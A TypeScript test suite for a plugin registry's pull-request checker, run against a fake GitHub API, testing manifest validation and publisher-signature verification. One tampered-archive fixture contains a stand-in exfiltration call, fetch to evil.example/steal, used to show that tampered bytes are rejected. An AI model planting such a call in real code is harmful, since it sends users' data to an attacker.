// The pull-request checker against a local stand-in for GitHub's REST API (github.com is not
// reachable here): an HTTP server answering the documented shapes of the endpoints the checker calls
// (pulls/files, contents, check-runs, statuses, reviews). Octokit talks to it over HTTP via baseUrl.
// The base registry trusts one publisher key (keys/), so pull requests adding signed versions are
// checked with the same signature verification as the pre-receive hook: the one registry validator.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import express from 'express';
import pino from 'pino';
import { createHash } from 'node:crypto';
import {
  generateSigningKey,
  loadSigningKey,
  signArchive,
  signBody,
  startRegistryServer,
  writeTarGz,
  type RegistryServer,
  type SigningKey,
} from '../registry-index/index.ts';
import { git, json, manifest, tempDir } from './registry-support.ts';

interface Call {
  method: string;
  path: string;
  body: Record<string, unknown>;
}

/** In-memory GitHub: one repository, pull requests with file lists, file contents by ref. */
class FakeGitHub {
  calls: Call[] = [];
  checkRunsAllowed = true;
  prFiles = new Map<number, Array<{ filename: string; status: string; previous_filename?: string }>>();
  contents = new Map<string, string>(); // `${ref}:${path}` -> text
  server!: Server;
  url = '';

  async start(): Promise<void> {
    const app = express();
    app.use(express.json({ limit: '5mb' }));
    app.use((req, _res, next) => {
      this.calls.push({ method: req.method, path: req.path, body: (req.body ?? {}) as Record<string, unknown> });
      next();
    });
    app.get('/repos/:owner/:repo/pulls/:n/files', (req, res) => {
      const files = (this.prFiles.get(Number(req.params.n)) ?? []).map((f, i) => ({
        sha: `${i}`.padStart(40, '0'),
        additions: 1,
        deletions: 0,
        changes: 1,
        ...f,
      }));
      const page = Number(req.query.page ?? 1);
      res.json(page === 1 ? files : []);
    });
    app.get('/repos/:owner/:repo/contents/*path', (req, res) => {
      const path = (req.params as unknown as { path: string[] }).path.join('/');
      const text = this.contents.get(`${String(req.query.ref)}:${path}`);
      if (text === undefined)
        return void res
          .status(404)
          .json({ message: 'Not Found', documentation_url: 'https://docs.github.com/rest/repos/contents' });
      res.json({
        type: 'file',
        encoding: 'base64',
        path,
        name: path.split('/').pop(),
        size: text.length,
        content: Buffer.from(text).toString('base64'),
      });
    });
    app.post('/repos/:owner/:repo/check-runs', (req, res) => {
      if (!this.checkRunsAllowed)
        return void res.status(403).json({ message: 'Resource not accessible by personal access token' });
      res.status(201).json({ id: 4242, name: req.body.name, head_sha: req.body.head_sha, status: req.body.status });
    });
    app.patch(
      '/repos/:owner/:repo/check-runs/:id',
      (req, res) => void res.json({ id: Number(req.params.id), ...req.body }),
    );
    app.post(
      '/repos/:owner/:repo/statuses/:sha',
      (req, res) => void res.status(201).json({ id: 1, state: req.body.state, context: req.body.context }),
    );
    app.post(
      '/repos/:owner/:repo/pulls/:n/reviews',
      (req, res) => void res.json({ id: 7, state: 'CHANGES_REQUESTED', body: req.body.body }),
    );
    await new Promise<void>((r) => (this.server = app.listen(0, '127.0.0.1', () => r())));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): Promise<void> {
    return new Promise((r) => this.server.close(() => r()));
  }

  callsTo(method: string, pattern: RegExp): Call[] {
    return this.calls.filter((c) => c.method === method && pattern.test(c.path));
  }
}

const secret = 'pr-webhook-secret';
let dirs: ReturnType<typeof tempDir>;
let github: FakeGitHub;
let registry: RegistryServer;
const sha256 = 'c'.repeat(64);
const url = (v: string) => `https://github.com/example/stash/releases/download/v${v}/stash-linux-amd64.tar.gz`;
const stash = (v: string, extra: Record<string, unknown> = {}) =>
  manifest('stash', { version: v, downloads: [{ os: 'linux', arch: 'amd64', url: url(v), sha256 }], ...extra });
/** The publisher key keys/ trusts for acme-*, and a key the registry has never seen. */
const acmeKey: SigningKey = loadSigningKey(generateSigningKey().privateKeyPem, 'acme test key');
const strangerKey: SigningKey = loadSigningKey(generateSigningKey().privateKeyPem, 'stranger test key');

before(async () => {
  dirs = tempDir('registry-pr-');
  const repo = join(dirs.path, 'repo');
  const write = (p: string, c: string) => {
    mkdirSync(dirname(join(repo, p)), { recursive: true });
    writeFileSync(join(repo, p), c);
  };
  mkdirSync(repo);
  git(repo, 'init', '-q', '-b', 'main');
  write('plugins/stash/manifest.json', json(stash('1.0.0')));
  write('plugins/http/manifest.json', json(manifest('http')));
  write('templates/api.yaml', 'name: api\nplugins_required: [http]\n');
  write(
    `keys/${acmeKey.keyId}.json`,
    json({ keyId: acmeKey.keyId, publisher: 'Acme', publicKey: acmeKey.publicKey, plugins: ['acme-*'] }),
  );
  git(repo, 'add', '-A', '.');
  git(repo, 'commit', '-q', '-m', 'base');
  github = new FakeGitHub();
  await github.start();
  registry = await startRegistryServer({
    repo,
    schedule: null,
    logger: pino({ level: 'silent' }),
    github: { token: 'ghs_test', apiUrl: github.url, webhookSecret: secret },
  });
  await registry.initialSync;
});

after(async () => {
  await registry?.close();
  await github?.stop();
  dirs?.cleanup();
});

function prEvent(number: number, headSha: string, action = 'opened') {
  return {
    action,
    number,
    pull_request: {
      number,
      head: { sha: headSha, ref: 'feature', repo: { name: 'registry', owner: { login: 'contributor' } } },
      base: { sha: 'b'.repeat(40), ref: 'main' },
    },
    repository: { name: 'registry', owner: { login: 'acme' } },
  };
}

async function deliver(event: object, eventName = 'pull_request', sign = true): Promise<Response> {
  const body = JSON.stringify(event);
  return fetch(`${registry.url}/api/v1/github/webhook?wait=1`, {
    method: 'POST',
    body,
    headers: {
      'content-type': 'application/json',
      'x-github-event': eventName,
      'x-github-delivery': 'd-1',
      ...(sign ? { 'x-hub-signature-256': signBody(secret, body) } : {}),
    },
  });
}

test('a pull request with a broken manifest gets a failing check run with line annotations', async () => {
  const head = '1'.repeat(40);
  github.prFiles.set(1, [
    { filename: 'plugins/quokka/manifest.json', status: 'added' },
    { filename: 'README.md', status: 'modified' },
  ]);
  github.contents.set(`${head}:plugins/quokka/manifest.json`, json(manifest('quokka', { tier: 'comunity' })));
  const r = await deliver(prEvent(1, head));
  assert.equal(r.status, 200);
  const result = (await r.json()) as { conclusion: string; reportedWith: string };
  assert.equal(result.conclusion, 'failure');
  assert.equal(result.reportedWith, 'check-run');
  const created = github.callsTo('POST', /\/check-runs$/)[0]!;
  assert.deepEqual(
    [created.body.name, created.body.head_sha, created.body.status],
    ['registry/validate', head, 'in_progress'],
  );
  const update = github.callsTo('PATCH', /\/check-runs\/4242$/).at(-1)!;
  assert.equal(update.body.conclusion, 'failure');
  const output = update.body.output as { title: string; annotations: Array<Record<string, unknown>> };
  assert.match(output.title, /Registry validation failed: 1 error/);
  assert.deepEqual(output.annotations[0], {
    path: 'plugins/quokka/manifest.json',
    start_line: 7,
    end_line: 7,
    start_column: 11,
    end_column: 11,
    annotation_level: 'failure',
    title: 'schema/enum',
    message: '"tier" is "comunity", which is not one of: core, community, premium\nhint: did you mean "community"?',
  });
});

test('a version-only bump passes and is labelled as one; a changed published artifact fails', async () => {
  const head = '2'.repeat(40);
  github.prFiles.set(2, [{ filename: 'plugins/stash/manifest.json', status: 'modified' }]);
  github.contents.set(`${head}:plugins/stash/manifest.json`, json(stash('1.1.0')));
  const ok = (await (await deliver(prEvent(2, head))).json()) as {
    conclusion: string;
    title: string;
    versionBumps: string[];
  };
  assert.equal(ok.conclusion, 'success');
  assert.deepEqual(ok.versionBumps, ['stash 1.0.0 -> 1.1.0']);
  assert.equal(ok.title, 'Version bump: stash 1.0.0 -> 1.1.0');

  const head3 = '3'.repeat(40);
  github.prFiles.set(3, [{ filename: 'plugins/stash/manifest.json', status: 'modified' }]);
  github.contents.set(
    `${head3}:plugins/stash/manifest.json`,
    json(stash('1.0.0', { downloads: [{ os: 'linux', arch: 'amd64', url: url('1.0.0'), sha256: 'd'.repeat(64) }] })),
  );
  const refused = (await (await deliver(prEvent(3, head3))).json()) as {
    conclusion: string;
    problems: Array<{ rule: string }>;
  };
  assert.equal(refused.conclusion, 'failure');
  assert.deepEqual(
    refused.problems.map((p) => p.rule),
    ['immutable-version'],
  );
});

test('deleting a plugin a template needs fails; without check-run permission, a status and review post', async () => {
  github.checkRunsAllowed = false;
  const head = '4'.repeat(40);
  github.prFiles.set(4, [{ filename: 'plugins/http/manifest.json', status: 'removed' }]);
  const result = (await (await deliver(prEvent(4, head, 'synchronize'))).json()) as {
    conclusion: string;
    reportedWith: string;
    problems: Array<{ rule: string; file: string }>;
  };
  assert.equal(result.reportedWith, 'status');
  assert.deepEqual(
    result.problems.map((p) => `${p.file} ${p.rule}`),
    ['templates/api.yaml template-plugin-reference'],
  );
  const status = github.callsTo('POST', new RegExp(`/statuses/${head}$`))[0]!;
  assert.deepEqual([status.body.state, status.body.context], ['failure', 'registry/validate']);
  const review = github.callsTo('POST', /\/pulls\/4\/reviews$/)[0]!;
  assert.equal(review.body.event, 'REQUEST_CHANGES');
  assert.deepEqual(
    (review.body.comments as Array<{ path: string; line: number }>).map((c) => [c.path, c.line]),
    [['templates/api.yaml', 2]],
  );
  github.checkRunsAllowed = true;
});

test('webhook deliveries must be signed; other events and actions are ignored', async () => {
  assert.equal((await deliver(prEvent(5, '5'.repeat(40)), 'pull_request', false)).status, 401);
  assert.equal((await deliver({ zen: 'hi' }, 'ping')).status, 200);
  assert.equal((await deliver({}, 'issues')).status, 202);
  const closed = (await (await deliver(prEvent(5, '5'.repeat(40), 'closed'))).json()) as { conclusion: string };
  assert.equal(closed.conclusion, 'skipped');
});

// --- publisher signatures: a pull request adding a plugin version as `wfctl publish --pr` makes it ---

const digestOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const archive = writeTarGz([
  { path: 'manifest.json', data: '{"name":"acme-greeter","version":"1.0.0"}' },
  { path: 'index.js', data: 'export const steps = {};\n' },
]);
const tamperedArchive = writeTarGz([
  { path: 'manifest.json', data: '{"name":"acme-greeter","version":"1.0.0"}' },
  { path: 'index.js', data: 'export const steps = {}; fetch("https://evil.example/steal");\n' },
]);

/** acme-greeter@1.0.0 with one blob download; `download` overrides its fields (undefined deletes one). */
function greeter(download: Record<string, unknown>): Record<string, unknown> {
  const digest = digestOf(archive);
  const d: Record<string, unknown> = {
    os: 'any',
    arch: 'any',
    url: `blob:sha256:${digest}`,
    sha256: digest,
    signature: signArchive(acmeKey, { name: 'acme-greeter', version: '1.0.0', sha256: digest }),
    ...download,
  };
  for (const [k, v] of Object.entries(d)) if (v === undefined) delete d[k];
  return manifest('acme-greeter', { engineApi: '^1.0', downloads: [d] });
}

let nextPr = 100;
/** Opens a pull request adding plugins/acme-greeter/manifest.json and returns what the checker posted. */
async function checkAddition(body: Record<string, unknown>) {
  const pr = nextPr++;
  const head = pr.toString(16).padStart(40, 'a');
  const file = 'plugins/acme-greeter/manifest.json';
  github.prFiles.set(pr, [{ filename: file, status: 'added' }]);
  github.contents.set(`${head}:${file}`, json(body));
  const r = await deliver(prEvent(pr, head));
  assert.equal(r.status, 200);
  const result = (await r.json()) as {
    conclusion: string;
    title: string;
    reportedWith: string;
    problems: Array<{ rule: string; message: string }>;
  };
  return { pr, head, result };
}

interface Annotation {
  path: string;
  start_line: number;
  annotation_level: string;
  title: string;
  message: string;
}

/** The last check-run update posted for this head commit's check run. */
function checkRunOutput(): { conclusion: unknown; title: string; summary: string; annotations: Annotation[] } {
  const update = github.callsTo('PATCH', /\/check-runs\/4242$/).at(-1)!;
  const output = update.body.output as { title: string; summary: string; annotations: Annotation[] };
  return { conclusion: update.body.conclusion, ...output };
}

test('a pull request adding a version signed by a trusted key passes the signature check', async () => {
  const { result } = await checkAddition(greeter({}));
  assert.deepEqual(result.problems, []);
  assert.equal(result.conclusion, 'success');
  const posted = checkRunOutput();
  assert.equal(posted.conclusion, 'success');
  assert.equal(posted.title, 'Registry validation passed');
  assert.deepEqual(posted.annotations, []);
});

const refusals: Array<{ what: string; download: () => Record<string, unknown>; rules: string[]; message: RegExp }> = [
  {
    what: 'a signature by a key the registry does not trust',
    download: () => ({
      signature: signArchive(strangerKey, { name: 'acme-greeter', version: '1.0.0', sha256: digestOf(archive) }),
    }),
    rules: ['signature-untrusted'],
    message: new RegExp(
      `acme-greeter@1\\.0\\.0 is signed by key ${strangerKey.keyId}, which the registry does not trust`,
    ),
  },
  {
    what: 'a tampered archive (the download re-pointed at other bytes, the signature kept)',
    download: () => ({ url: `blob:sha256:${digestOf(tamperedArchive)}`, sha256: digestOf(tamperedArchive) }),
    rules: ['signature-invalid'],
    message: new RegExp(
      `the signature of acme-greeter@1\\.0\\.0 \\(sha256 ${digestOf(tamperedArchive).slice(0, 12)}\\.\\.\\.\\) ` +
        `does not verify with key ${acmeKey.keyId} of Acme`,
    ),
  },
  {
    // the manifest does not index at all, so this is the one error (the signature is not reached)
    what: 'a tampered checksum (sha256 edited, the blob and the signature kept)',
    download: () => ({ sha256: digestOf(tamperedArchive) }),
    rules: ['download-blob-digest'],
    message: /download URL names blob sha256:[0-9a-f]{12}\.\.\. but "sha256" is [0-9a-f]{12}\.\.\./,
  },
  {
    what: 'a missing signature',
    download: () => ({ signature: undefined }),
    rules: ['signature-missing'],
    message: new RegExp(
      "downloads\\[0\\] of acme-greeter@1\\.0\\.0 is an archive in the registry's blob store but carries no " +
        'publisher signature',
    ),
  },
];

for (const c of refusals) {
  test(`a pull request adding a version with ${c.what} fails, with the reason in the check run`, async () => {
    const { result } = await checkAddition(greeter(c.download()));
    assert.equal(result.conclusion, 'failure');
    assert.deepEqual(result.problems.map((p) => p.rule).sort(), [...c.rules].sort());
    const posted = checkRunOutput();
    assert.equal(posted.conclusion, 'failure');
    assert.match(posted.title, /^Registry validation failed: \d+ errors?/);
    assert.match(posted.summary, c.message);
    // every problem is annotated on the manifest line it concerns, with its hint
    assert.deepEqual(posted.annotations.map((a) => a.title).sort(), [...c.rules].sort());
    for (const a of posted.annotations) {
      assert.equal(a.path, 'plugins/acme-greeter/manifest.json');
      assert.equal(a.annotation_level, 'failure');
      assert.ok(a.start_line > 1, `a line inside the downloads entry, got ${a.start_line}`);
      assert.match(a.message, /\nhint: \S/);
    }
    assert.ok(posted.annotations.some((a) => c.message.test(a.message)));
  });

  test(`a pull request adding a version with ${c.what} gets a failing status and a review comment`, async () => {
    github.checkRunsAllowed = false;
    try {
      const { pr, head, result } = await checkAddition(greeter(c.download()));
      assert.equal(result.reportedWith, 'status');
      const status = github.callsTo('POST', new RegExp(`/statuses/${head}$`))[0]!;
      assert.deepEqual([status.body.state, status.body.context], ['failure', 'registry/validate']);
      assert.match(String(status.body.description), /^Registry validation failed/);
      const review = github.callsTo('POST', new RegExp(`/pulls/${pr}/reviews$`))[0]!;
      assert.equal(review.body.event, 'REQUEST_CHANGES');
      assert.match(String(review.body.body), c.message);
      const comments = review.body.comments as Array<{ path: string; line: number; body: string }>;
      assert.deepEqual(comments.map((x) => /^\*\*([\w-]+)\*\*/.exec(x.body)?.[1]).sort(), [...c.rules].sort());
      assert.ok(comments.some((x) => c.message.test(x.body) && x.path === 'plugins/acme-greeter/manifest.json'));
    } finally {
      github.checkRunsAllowed = true;
    }
  });
}
